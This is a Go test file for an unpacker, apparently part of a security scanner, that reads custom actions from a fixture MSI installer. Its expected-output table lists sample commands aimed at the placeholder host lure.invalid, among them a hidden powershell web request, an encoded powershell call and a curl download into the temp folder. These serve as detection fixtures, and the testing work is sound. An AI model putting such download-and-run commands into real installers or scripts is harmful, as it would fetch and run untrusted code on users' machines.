package unpack

import (
	"strings"
	"testing"

	"meetguard"
)

// What the actions of the package run, as msiinfo(1) prints the table and the
// documentation of Windows Installer says how to read it.
const wantActions = `RunFile.cmd|custom action|"\"%ProgramFiles%\\Inert Folder\\inert.exe\" --from %ProgramFiles%\\Inert Folder\\inert text.txt"
RunProp.cmd|custom action|"powershell.exe -w hidden -c iwr lure.invalid"
SetCmd.cmd|custom action|"\"%SystemRoot%\\System32\\cmd.exe\" /c start lure.invalid"
RunTool.cmd|custom action|"\"Binary\\Tool\" /q http://lure.invalid/a"
RunDir.cmd|custom action|"%SystemRoot%\\System32\\cmd.exe /c powershell.exe -enc AAAA [%TEMP% "
Unused.cmd||"never.exe"
JScriptBinary.js|custom action|"WScript.Echo(\"from a binary\");\r\n"
VBBinary.vbs|custom action|"MsgBox \"vb from a binary\"\r\n"
JScriptText.js||"var a = [1]; a[0];"
VBText.vbs||"MsgBox 1"
VBProp.vbs||"MsgBox \"Größe\""
JSProp.js||"eval(\"lure.invalid\")"
CustomData.cmd||"curl -o %TEMP%\\x lure.invalid"
Binary/Tool||"MZ not a program\n"
`

func TestMSIActions(t *testing.T) {
	all, err := instWalk(meetguard.FormatMSI, instFile(t, "msi/actions.msi"), instBudget())
	if err != nil {
		t.Error(err)
	}
	var rest []instMember
	files := 0
	for _, m := range all {
		switch {
		case m.name == "inert.cab" && m.role == RoleNeeded && strings.HasPrefix(m.text, "MSCF"):
			files += 2 // to be opened by the caller
		case m.name == "%ProgramFiles%/Inert Folder/inert text.txt" && m.text == string(instFile(t, "msi/inert.txt")):
			files++
		case m.name == "%ProgramFiles%/Inert Folder/inert.exe" && m.text == "MZ not a program\n":
			files++
		default:
			rest = append(rest, m)
		}
	}
	if got := instList(rest); got != wantActions || files != 2 {
		t.Errorf("got %d files and\n%swant\n%s", files, got, wantActions)
	}
}

func TestMSIFileNames(t *testing.T) {
	f, err := openCompound(instFile(t, "msi/actions.msi"))
	if err != nil {
		t.Fatal(err)
	}
	root, _ := f.entry(0)
	db, err := openMSIDatabase(f, f.children(root.child))
	if err != nil {
		t.Fatal(err)
	}
	names := db.fileNames()
	if len(names) != 2 || names["ReadmeFile"] != "%ProgramFiles%/Inert Folder/inert text.txt" {
		t.Errorf("got %q", names)
	}
}

func TestMSIDamaged(t *testing.T) {
	instMangle(t, meetguard.FormatMSI, instFile(t, "msi/actions.msi"), 97)
}

func FuzzMSI(f *testing.F) {
	f.Add(instFile(f, "msi/actions.msi"))
	f.Fuzz(func(t *testing.T, data []byte) { instFuzz(t, meetguard.FormatMSI, data) })
}
